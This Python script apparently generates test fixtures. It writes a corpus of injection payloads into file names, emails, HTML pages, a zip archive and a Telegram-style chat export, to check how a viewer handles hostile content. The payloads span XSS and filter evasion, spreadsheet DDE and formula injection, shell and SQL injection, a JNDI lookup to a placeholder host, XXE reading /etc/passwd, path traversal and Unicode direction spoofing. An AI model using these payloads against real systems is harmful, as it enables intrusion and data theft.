#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""A trove that attacks whoever shows it: script, markup, spreadsheet formulas and signs that turn lines round, in file
names, texts, senders, subjects, titles and names inside archives. Each payload has a word of its own (zqx0001 …) beside it, by
which it is found.

usage: payloads.py FOLDER     writes the trove, prints the payloads as JSON"""
import email.header
import json
import pathlib
import sys
import unicodedata
import zipfile

RUN = "globalThis.pwned={n}"
MARKUP = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "</script><script>{run}</script>", "<script src=//x.invalid/{n}></script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '"><img src=x onerror={run}>', "'><img src=x onerror={run}>", "<img/src=x/onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x>", "<math><mtext></mtext><script>{run}</script></math>",
    "<iframe srcdoc='<script>parent.pwned={n}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>", "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>", "<a href=javascript:{run} id=x{n}>press</a>", "<a href='java\tscript:{run}'>press</a>", "[press](javascript:{run})",
    "<body onload={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>", "<form action=javascript:{run}><button>go</button></form>",
    "<base href=//x.invalid/>", "<meta http-equiv=refresh content=0;url=//x.invalid/{n}>", "<link rel=stylesheet href=//x.invalid/{n}.css>", "<style>*{{display:none}}</style>",
    "<style>@import '//x.invalid/{n}.css'</style>", "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<![CDATA[<script>{run}</script>]]>", "<!--><script>{run}</script>", "<?xml-stylesheet href=//x.invalid/{n}?>", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "%3Cscript%3E{run}%3C/script%3E", "＜script＞{run}＜/script＞", "javascript:{run}//",
    "';{run};//", '";{run};//', "`;{run};`", "${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</style><script>{run}</script>", "]]><script>{run}</script>", "<x contenteditable onblur={run}>", "<p style=background:url(//x.invalid/{n})>", "<table background=//x.invalid/{n}>",
    "<plaintext>", "<xmp><script>{run}</script>", "<button popovertarget=x onclick={run}>press</button>", "<dialog open onclose={run}>", "<div onpointerover={run}>over</div>",
]
SHEETS = [
    "=1+{n}", "=cmd|' /C calc'!A{n}", "=HYPERLINK(\"//x.invalid/{n}\",\"press\")", "=WEBSERVICE(\"//x.invalid/{n}\")", "=IMPORTXML(\"//x.invalid/{n}\",\"a\")", "=IMAGE(\"//x.invalid/{n}\")",
    "+1+{n}", "+cmd|' /C calc'!A{n}", "-1+{n}", "-cmd|' /C calc'!A{n}", "@SUM(1+{n})", "@cmd|' /C calc'!A{n}", "\t=1+{n}", "  =1+{n}", "\"=1+{n}\"", "'=1+{n}", ";=1+{n}", ",=1+{n}",
    "=1+{n}\",\"=2", "＝1+{n}", "=DDE(\"cmd\";\"/C calc\";\"{n}\")", "=rundll32|'URL.dll,OpenURL x'!A{n}", "|calc {n}", "%0A=1+{n}",
]
TURNS = [
    "\u202egpj.{n}.exe", "\u202d{n}\u202c", "\u2066right\u2069{n}", "\u2067{n}\u2069", "\u200f{n}\u200e", "a\u200b{n}", "\ufeff{n}", "{n}\u0085x", "\x1b[31m{n}\x1b[0m", "\x1b]0;{n}\x07", "\x7f{n}", "e" + "\u0301" * 60 + "{n}",
    "\u2028{n}\u2029",
]
MARKUP += [  # handlers of other elements and events
    "<style onload={run}></style>", "<link rel=stylesheet href=x onerror={run}>", "<img srcset=x sizes=x onerror={run}>", "<picture><source srcset=x><img onerror={run}></picture>",
    "<video src=x onerror={run}></video>", "<video autoplay onloadstart={run}><source src=x></video>", "<track onerror={run}>", "<image src=x onerror={run}>", "<input type=image src=x onerror={run}>",
    "<isindex type=image src=x onerror={run}>", "<frameset onload={run}>", "<frame src=javascript:{run}>", "<applet code=x onerror={run}>", "<bgsound src=javascript:{run}>", "<keygen autofocus onfocus={run}>",
    "<p tabindex=0 autofocus onfocusin={run}>", "<a onmouseover={run}>over</a>", "<a oncopy={run}>copy</a>", "<p onwheel={run}>roll</p>", "<p ondragstart={run} draggable=true>pull</p>",
    "<p oncontextmenu={run}>menu</p>", "<p onbeforeinput={run} contenteditable>write</p>", "<p onpaste={run} contenteditable>paste</p>", "<p style='animation:x 1s' onanimationstart={run}>",
    "<p style='transition:all 1s' ontransitionend={run}>", "<body onhashchange={run}>", "<body onpageshow={run}>", "<body onpopstate={run}>", "<body onmessage={run}>", "<body onresize={run}>",
    "<body onunhandledrejection={run}>", "<details ontoggle={run} open><summary>x</summary></details>", "<div popover onbeforetoggle={run} id=p{n}>", "<div hidden=until-found onbeforematch={run}>found</div>",
    "<form><input oninvalid={run} required></form>", "<form onformdata={run}>", "<form id=f{n}></form><button form=f{n} formaction=javascript:{run}>go</button>", "<output onsecuritypolicyviolation={run}>",
    # SVG and MathML
    "<svg><a xlink:href=javascript:{run}><text>press</text></a></svg>", "<svg><set attributeName=href to=javascript:{run}>", "<svg><animate attributeName=href values=javascript:{run}>",
    "<svg><foreignObject><iframe onload={run}></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'></svg>", "<svg><style><img src=x onerror={run}></style></svg>",
    "<svg><title><script>{run}</script></title></svg>", "<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>", "<svg><image href=//x.invalid/{n}.svg></svg>", "<svg><handler type=text/javascript>{run}</handler></svg>",
    "<math href=javascript:{run}>press</math>", "<math><maction actiontype=statusline xlink:href=javascript:{run}>press</maction></math>", "<math><annotation-xml encoding=text/html><script>{run}</script></annotation-xml></math>",
    "<math><mglyph><style><img src=x onerror={run}></style></mglyph></math>",
    # what cleaners and parsers read otherwise than browsers do
    "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>", "<script/x>{run}</script>", "<script\n>{run}</script\n>", "<script>{run}</script", "<script>{run}<!--", "<script\x0c>{run}</script>",
    "<img src=x:alert onerror=eval(src)>", "<img \"\"\"><script>{run}</script>\">", "<img src='x' onerror ='{run}'>", "<img\x0bsrc=x\x0bonerror={run}>", "<img src=x onerror=\x26#103;lobalThis.pwned={n}>",
    "<a href='&#106;avascript:{run}'>press</a>", "<a href='java&Tab;script:{run}'>press</a>", "<a href='javascript&colon;{run}'>press</a>", "<a href=' \x01javascript:{run}'>press</a>", "<a href=vbscript:{n}>press</a>",
    "<a href='data:text/html,<script>{run}</script>'>press</a>", "<a href=data:text/html;base64,PHNjcmlwdD4= id=b{n}>press</a>", "<a href=blob:x{n}>press</a>", "<a href=filesystem:x{n}>press</a>", "<a href=file:///etc/passwd#{n}>press</a>",
    "<a href=//x.invalid/{n} target=_blank rel=opener>press</a>", "<a href=//x.invalid/{n} ping=//x.invalid/{n}>press</a>", "<a href=# download=x{n}.exe>press</a>", "<noembed><script>{run}</script></noembed>",
    "<noframes><script>{run}</script></noframes>", "<select><script>{run}</script></select>", "<table><script>{run}</script></table>", "<option><style></option></select><img src=x onerror={run}></style>",
    "<textarea><script>{run}</script></textarea>", "<title><img src=x onerror={run}></title>", "<comment><img src=x onerror={run}></comment>", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;{n}</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>", "<?php {n} ?><script>{run}</script>", "<% {n} %><script>{run}</script>", "<slot name=x{n}></slot><template shadowrootmode=open><script>{run}</script></template>",
    "<form name=body><input name=firstChild value={n}></form>", "<a id=location name=href>{n}</a>", "<img name=getElementById id=createElement src=x{n}>", "<input name=__proto__ value={n}>",
    # what loads or redraws without a script
    "<style>a{{background:url(//x.invalid/{n})}}</style>", "<style>@font-face{{font-family:x;src:url(//x.invalid/{n})}}</style>", "<style>input[value^=a]{{background:url(//x.invalid/{n})}}</style>",
    "<p style='position:fixed;inset:0;z-index:99999'>{n}</p>", "<p style='background-image:image-set(\"//x.invalid/{n}\" 1x)'>", "<link rel=prefetch href=//x.invalid/{n}>", "<link rel=dns-prefetch href=//x{n}.invalid>",
    "<link rel=preconnect href=//x{n}.invalid>", "<link rel=import href=//x.invalid/{n}>", "<link rel=manifest href=//x.invalid/{n}>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"/{n}\"]}}]}}</script>",
    "<script type=importmap>{{\"imports\":{{\"x\":\"//x.invalid/{n}\"}}}}</script>", "<script type=module src=//x.invalid/{n}></script>", "<meta http-equiv=Set-Cookie content=a={n}>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *;x{n}\">", "<meta name=referrer content=unsafe-url id=m{n}>", "<iframe src=/ sandbox=allow-scripts id=i{n}></iframe>", "<fencedframe src=//x.invalid/{n}></fencedframe>",
    "<portal src=//x.invalid/{n}></portal>", "<input type=file onchange={run}>", "<object type=image/svg+xml data=//x.invalid/{n}.svg></object>", "<param name=src value=//x.invalid/{n}>", "<bdo dir=rtl>{n}</bdo>",
    # templates, Markdown and script of other makers
    "![x](javascript:{run})", "![x](//x.invalid/{n}.png)", "<javascript:{run}>", "[x]: javascript:{run}\n[x]", "[press](data:text/html,<script>{run}</script>)", "```<script>{run}</script>```",
    "<%= {run} %>", "#{{{run}}}", "${{{{{n}*{n}}}}}", "{{%raw%}}{n}{{%endraw%}}", "[[${{{n}}}]]", "*{{{n}}}", "@({n}+1)", "{{{{7*{n}}}}}", "{{{{this.constructor}}}}{n}", "<x v-html=\"'{n}'\">", "<x ng-init={run}>", "<x x-init={run}>",
    "<x hx-get=//x.invalid/{n}>", "<x data-bind='text:{run}'>", "<x :onclick='{run}'>", "__proto__[pwned]={n}", "constructor.prototype.pwned={n}", "\\\";{run};//", "\u2028{run}\u2029", "-{run}-", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\x1b(J<script>{run}</script>", "%253Cscript%253E{run}%253C/script%253E", "&amp;lt;script&amp;gt;{run}", "&lt;img src=x onerror={run}&gt;", "$(touch x{n})", "`touch x{n}`", ";touch x{n};", "|| touch x{n}", "\r\nSet-Cookie: a={n}", "' OR {n}={n} --", "\"; DROP TABLE item; -- {n}",
    "%s%n%x{n}", "${{jndi:ldap://x.invalid/{n}}}", "../../../../x{n}", "..\\..\\x{n}", "CON.{n}", "x{n}::$DATA",
]
SHEETS += [
    "=SUM(1+{n})*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\calc'!{n}", "=EXEC(\"calc{n}\")", "=CALL(\"x{n}\",\"y\",\"J\",0)", "=REGISTER(\"x{n}\",\"y\",\"J\")", "=INDIRECT(\"A{n}\")", "=FILTERXML(\"<a>{n}</a>\",\"a\")",
    "=RTD(\"x{n}\",,\"y\")", "=IMPORTDATA(\"//x.invalid/{n}\")", "=IMPORTFEED(\"//x.invalid/{n}\")", "=IMPORTRANGE(\"x{n}\",\"A1\")", "=QUERY(A1,\"select {n}\")", "=LAMBDA(x,x+{n})(1)", "{{=1+{n}}}", "\n=1+{n}", "\r=1+{n}", "\u00a0=1+{n}",
    "\u3000=1+{n}", "\ufeff=1+{n}", "\u200b=1+{n}", "\u202e=1+{n}", "﹢1+{n}", "－1+{n}", "＠SUM({n})", "+=1+{n}", "--1+{n}", "=+-@{n}", "=\u200b1+{n}", "\"\"=1+{n}", "a\n=1+{n}", "a\t=1+{n}", "a\"\r\n=1+{n}", "a;=1+{n}", "a; \"=cmd|' /C calc'!A{n}", "sep=;{n}", "ID;{n}",
]
TURNS += [
    "\u202b{n}.txt", "\u2068{n}\u2069", "\u061c{n}", "{n}\u202e\u202egnp.", "\u2066\u202e{n}", "\x08\x08{n}", "\x0b{n}", "\x0c{n}", "\r{n}", "\x9b31m{n}", "\x1bP{n}\x1b\\", "\U000e0041{n}", "\u2060{n}", "\u00ad{n}", "\u034f{n}", "\ufff9{n}\ufffb",
    "\u115f{n}", "\u3164{n}", "\u180e{n}", "Ж\u0489\u0489\u0489{n}", "\ufdfd{n}", "аdmin{n}", "ﬃ{n}", "𝓪{n}",
]
NAME_MOST = 180  # bytes; a file system takes 255


def payloads():
    plain = [(kind, text) for kind, texts in (("markup", MARKUP), ("sheet", SHEETS), ("turn", TURNS)) for text in texts]
    out = []
    for kind, text in plain:
        n = len(out) + 1
        out.append({"n": n, "word": f"zqx{n:04}", "kind": kind, "text": text.format(n=n, run=RUN.format(n=n))})
    assert len({text for _, text in plain}) == len(plain), "a payload stands there twice"
    return out


def name_of(one):
    text = one["text"].replace("/", "∕").replace("\0", "")
    while len(text.encode()) > NAME_MOST:
        text = text[:-1]
    return f"{text} {one['word']}"


def printable(name):
    """As names are kept and cells are written: controls as their pictures, what turns a line or is not seen as its number; but the soft hyphen."""
    pictures = "".join(chr(0x2400 + ord(sign)) if ord(sign) < 32 else "\u2421" if sign == "\x7f" else sign for sign in name)
    return "".join(f"\\u{{{ord(sign):X}}}" if unicodedata.category(sign) in ("Cf", "Cc", "Zl", "Zp") and sign != "\u00ad" else sign for sign in pictures)


def mail(one):
    """Sender, subject, body and the name of an attachment."""
    said = one["text"].replace("\r", " ").replace("\n", " ")
    coded = email.header.Header(said, "utf-8", maxlinelen=10000).encode()
    return (f"From: {coded} <{one['word']}@egret.example>\nTo: desk@egret.example\nSubject: {coded}\nDate: Tue, 14 Jun 2022 10:{one['n'] % 60:02}:00 +0800\n"
            f"Message-ID: <{one['word']}@egret.example>\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{said}\n{one['word']} mail\n")


def chat():
    """An export of Telegram's: each payload is said by somebody who is called so."""
    said = [{"id": one["n"], "type": "message", "date": f"2022-06-14T{10 + one['n'] // 60}:{one['n'] % 60:02}:00", "from": one["text"], "from_id": f"user{one['n']}",
             "text": f"{one['text']} {one['word']} chat"} for one in payloads()]
    return {"name": said[0]["from"], "type": "private_group", "id": 77, "messages": said}


def page(one):
    return (f"<html><head><title>{escape(one['text'])}</title><meta name=author content=\"{escape(one['text'])}\"></head>"
            f"<body><p>{escape(one['text'])}</p><p>{one['word']} page</p></body></html>")


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def write(folder):
    root = pathlib.Path(folder)
    for sub in ("chat", "mail", "pages"):
        (root / sub).mkdir(parents=True, exist_ok=True)
    archive = zipfile.ZipFile(root / "packed.zip", "w")
    for one in payloads():
        (root / name_of(one)).write_text(f"named {one['word']}\n")
        (root / "mail" / f"{one['n']:04}.eml").write_text(mail(one))
        (root / "pages" / f"{one['n']:04}.html").write_text(page(one))
        archive.writestr(f"in/{name_of(one)}.txt", f"packed {one['word']}\n")
    archive.close()
    (root / "chat" / "result.json").write_text(json.dumps(chat()))


if __name__ == "__main__":
    write(sys.argv[1])
    json.dump(payloads(), sys.stdout)
